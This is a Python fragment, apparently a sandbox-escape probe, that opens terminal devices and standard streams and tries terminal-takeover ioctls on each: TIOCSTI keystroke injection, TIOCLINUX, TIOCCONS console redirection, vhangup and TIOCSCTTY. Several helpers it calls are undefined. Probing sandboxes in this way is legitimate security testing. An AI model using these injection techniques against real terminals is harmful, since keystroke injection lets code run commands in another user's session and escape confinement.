# A terminal session of ours: what is typed, injected and stolen here must stay here.
import fcntl, termios
TIOCLINUX = 0x541c
found = []
for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/proc/self/fd/0"):
    try:
        found.append((name, os.open(name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)))
    except OSError as error:
        print("open" + name.replace("/", "_"), name_of(error))
for name, fd in found + [("stdin", 0), ("stdout", 1), ("stderr", 2)]:
    label = name.replace("/", "_")
    for byte in b"x\n":
        attempt("sti_%s_%d" % (label, byte), lambda: fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte])))
    attempt("wide_" + label, lambda: call("ioctl", fd, termios.TIOCSTI | 1 << 32, ctypes.create_string_buffer(b"x")))
    attempt("linux_" + label, lambda: call("ioctl", fd, TIOCLINUX, ctypes.create_string_buffer(b"\3")))
    attempt("cons_" + label, lambda: fcntl.ioctl(fd, termios.TIOCCONS))
    attempt("vhangup_" + label, lambda: call(153))
    attempt("swapctty_" + label, lambda: fcntl.ioctl(fd, termios.TIOCSCTTY, 1) if fd == -1 else (_ for _ in ()).throw(OSError(errno.EPERM, "own")))
print("ttyname", os.ttyname(0))
print("device", os.fstat(0).st_dev, os.fstat(0).st_ino)
print("end", "of-attack")
